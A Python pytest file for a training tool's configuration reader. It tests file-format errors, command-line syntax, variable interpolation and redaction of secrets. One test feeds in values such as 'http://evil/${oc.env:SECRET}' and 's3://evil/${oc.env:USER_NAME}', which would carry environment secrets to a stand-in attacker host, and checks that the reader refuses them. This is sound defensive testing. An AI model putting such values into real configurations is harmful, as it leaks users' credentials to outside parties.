"""A recipe on the command line: what is read, and what is said of what cannot be read."""

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from grpo_stage.host.configuration_file import read_command_line, resolved
from grpo_stage.host.keys import read
from grpo_stage.records import redaction


GOOD = "stage: grpo\nlora_rank: 8\n"


@pytest.fixture(autouse=True)
def _in_a_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


def refusal(*words: str) -> str:
    with pytest.raises(ValueError, match=r".") as error:
        read_command_line(list(words))
    return str(error.value)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", ["x.yaml is empty", "Write `stage: grpo`"]),
        (b"# a comment\n", ["x.yaml is empty"]),
        (b"grpo", ["x.yaml holds only the text `grpo`", "`key: value`"]),
        (b"stage:grpo", ["x.yaml holds only the text `stage:grpo`"]),
        (b"3", ["x.yaml holds only the text `3`"]),
        (b"- stage: grpo\n", ["x.yaml holds a list", "`key: value`"]),
        (GOOD.encode("utf-16"), ["x.yaml is in UTF-16", "Save it as UTF-8"]),
        (b"stage: grpo\nrun_name: \xe4\n", ["x.yaml", "line 2", "Save it as UTF-8"]),
        (b"stage: grpo\n\tseed: 1\n", ["x.yaml cannot be read at line 2, column 1", "'\\t'", "Mend"]),
        (
            b"stage: grpo\nseed 1\nbeta: 0\n",
            ["x.yaml cannot be read at line 3", "could not find expected ':'", "Mend"],
        ),
        (b"stage: 'grpo\n", ["x.yaml cannot be read at line 2", "quoted scalar", "Mend"]),
        (b"stage: grpo\nseed: 1\nseed: 2\n", ["x.yaml cannot be read at line 3", "duplicate key seed", "Mend"]),
        (b"stage: grpo\n\0", ["x.yaml", "#x0000", "Mend"]),
        (
            b"stage: grpo\ndefault_system: 'f(${\\frac{1}{2}})'\n",
            ["x.yaml cannot be read at `default_system`: token recognition error", "in single quotes: 'a \\${b}'"],
        ),
    ],
)
def test_a_file_that_cannot_be_read(content, said):
    Path("x.yaml").write_bytes(content)
    message = refusal("x.yaml")
    assert [part for part in said if part not in message] == []
    assert "\n" not in message


def test_a_path_that_is_no_file():
    Path("d.yaml").mkdir()
    Path("d").mkdir()
    Path("x.txt").write_text(GOOD)
    assert "d.yaml is a folder" in refusal("d.yaml")
    assert "d is a folder" in refusal("d")
    assert "gone.yaml does not exist" in refusal("gone.yaml")
    for name in ("x.txt", "x", "X.YAML"):
        message = refusal(name, "seed=1")
        assert f"{name} is no configuration file" in message
        assert ".yaml, .yml or .json" in message


@pytest.mark.parametrize(
    ("words", "remedy"),
    [
        (["num_generations", "4"], "Write `num_generations=4`"),
        (["--num_generations", "4"], "Write `num_generations=4`"),
        (["--num-generations=4"], "Write `num_generations=4`"),
        (["num_generations=", "4"], "Write `num_generations=4`, without a space"),
        (["seed=1", "=4"], "Write `key=4`"),
        (["y.yaml"], "Name one file"),
        (["reward_funcs=[accuracy"], "in quotes"),
    ],
)
def test_words_behind_a_file(words, remedy):
    Path("x.yaml").write_text(GOOD)
    assert remedy in refusal("x.yaml", *words)


def test_what_can_be_read():
    Path("x.yaml").write_bytes(GOOD.encode("utf-8-sig"))
    assert read_command_line(["x.yaml", "seed=1", "run_name="]) == {
        "stage": "grpo",
        "lora_rank": 8,
        "seed": 1,
        "run_name": None,
    }
    Path("x.json").write_text(json.dumps({"stage": "grpo"}))
    assert read_command_line(["x.json"]) == {"stage": "grpo"}
    Path("tabs.json").write_text('{\n\t"stage": "sft",\n\t"seed": 1, "seed": 2\n}')
    assert read_command_line(["tabs.json"]) == {"stage": "sft", "seed": 2}
    Path("empty.yaml").write_text("")
    assert read_command_line(["empty.yaml", "stage=sft", "push_to_hub"]) == {"stage": "sft", "push_to_hub": None}
    for argv in ([], ["--stage", "grpo"], ["stray", "--stage", "grpo"]):
        assert read_command_line(argv) == argv


def test_interpolations(monkeypatch):
    monkeypatch.setenv("FOLDER", "there")
    values = {
        "output_dir": "${oc.env:FOLDER}/${seed}",
        "seed": 1,
        "reward_kwargs": {"f": {"path": "${oc.env:FOLDER}", "n": [1, "${seed}"]}},
        "default_system": r"a \${seed}",
        "run_name": "$FOLDER",
    }
    expected = {
        "output_dir": "there/1",
        "seed": 1,
        "reward_kwargs": {"f": {"path": "there", "n": [1, 1]}},
        "default_system": "a ${seed}",
        "run_name": "$FOLDER",
    }
    assert resolved(values) == read(values) == expected
    assert read(["--output_dir", "${oc.env:FOLDER}"]) == {"output_dir": "there"}


def test_a_json_file_that_cannot_be_read():
    Path("x.json").write_text('{\n"stage": grpo}')
    assert "x.json cannot be read at line 2, column 10: Expecting value" in refusal("x.json")


def test_a_malformed_reference_is_the_fault_of_its_own_key():
    with pytest.raises(ValueError, match=r"`run_name: a \$\{b` cannot be read: .*in single quotes"):
        resolved({"seed": 1, "output_dir": "x/${seed}", "run_name": "a ${b"})


@pytest.mark.parametrize("value", ["${oc.env:NOT_THERE}/x", "${nothere}", {"a": ["${nothere}"]}])
def test_an_interpolation_of_what_is_not_there(value):
    with pytest.raises(ValueError, match=r"`output_dir: .*cannot be found: .*Define it.*\\\$\{") as error:
        resolved({"seed": 1, "output_dir": value})
    assert "\n" not in str(error.value)


@pytest.fixture
def variables(monkeypatch):
    monkeypatch.setattr(redaction, "_remembered", set())
    held = {"SECRET": "s3cret", "SERVER": "http://localhost:8000/score", "USER_NAME": "ann", "ID": "12"}
    for name, value in held.items():
        monkeypatch.setenv(name, value)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        *((key, "${oc.env:USER_NAME}") for key in ("default_system", "run_name", "hub_model_id", "dataset")),
        *((key, "${oc.env:SECRET}") for key in ("output_dir", "default_system", "model_name_or_path")),
        *((key, "evil/${oc.env:USER_NAME}") for key in ("model_name_or_path", "ref_model", "reward_model")),
        ("adapter_name_or_path", "/here,evil/${oc.env:USER_NAME}"),
        ("model_name_or_path", "/models/${oc.env:SECRET}"),
        ("dataset_dir", "REMOTE:evil/${oc.env:USER_NAME}"),
        ("tokenized_path", "s3://evil/${oc.env:USER_NAME}"),
        ("swanlab_lark_webhook_url", "${oc.env:SERVER}"),
        ("reward_model", "http://evil/${oc.env:SECRET}"),
        ("reward_model", "http://evil/${reward_kwargs.f.k}"),
        ("reward_model", "${oc.env:NOT_THERE,http://evil/${oc.env:SECRET}}"),
        ("reward_model", "http://evil/${oc.select:reward_kwargs.f.k}"),
        ("vllm_config", {"x": ["${oc.env:SECRET}"]}),
    ],
)
def test_no_recipe_sends_a_variable_to_anyone(variables, key, value):
    with pytest.raises(ValueError, match=rf"`{key}: .*reads .* of the environment.*Write the value itself") as error:
        resolved({"reward_kwargs": {"f": {"k": "${oc.env:SECRET}"}}, key: value})
    assert "s3cret" not in str(error.value)


def test_a_message_about_a_reference_shows_no_variable(variables):
    with pytest.raises(ValueError, match="cannot be found") as error:
        resolved({"output_dir": "${${oc.env:SECRET}}"})
    assert "s3cret" not in f"{error.value} {error.value.__cause__}"


def test_where_the_environment_counts(variables):
    values = {
        "reward_model": ("${oc.env:SERVER}", "http://localhost:8000/score"),
        "seed": ("${oc.env:ID}", "12"),
        "output_dir": ("saves/${oc.env:USER_NAME}-${oc.env:ID}", "saves/ann-12"),
        "dataset_dir": ("${oc.env:PWD}", os.environ["PWD"]),
        "ref_model": ("/models/${oc.env:USER_NAME}", "/models/ann"),
        "hf_hub_token": ("${oc.env:SECRET}", "s3cret"),
        "reward_kwargs": (
            '{"judge": {"k": "${oc.env:SECRET}", "url": "https://host/v1"}}',
            '{"judge": {"k": "s3cret", "url": "https://host/v1"}}',
        ),
        "default_system": (r"see https://a.b and \${x}", "see https://a.b and ${x}"),
        "run_name": ("http://tracker/${output_seed}", "http://tracker/1"),
        "output_seed": (1, 1),
    }
    assert resolved({key: written for key, (written, _) in values.items()}) == {
        key: expected for key, (_, expected) in values.items()
    }
    assert redaction.mask("no s3cret, ann") == "no ***, ann"
    default = "${oc.env:NOT_THERE,http://localhost:8000}"
    assert resolved({"reward_model": default}) == {"reward_model": "http://localhost:8000"}


def test_where_the_stage_is_turned_off_the_last_line_says_so():
    Path("x.yaml").write_text(GOOD)
    code = "import sys; sys.exit('what the host says')"
    environment = {**os.environ, "GRPO_STAGE_DISABLE": "1"}
    for words, is_said in ((["train", "x.yaml"], True), (["train", "--stage", "grpo"], True), (["chat"], False)):
        ended = subprocess.run([sys.executable, "-c", code, *words], capture_output=True, text=True, env=environment)
        last = ended.stderr.splitlines()[-1]
        assert ("GRPO_STAGE_DISABLE=1" in last and "Unset" in last) is is_said
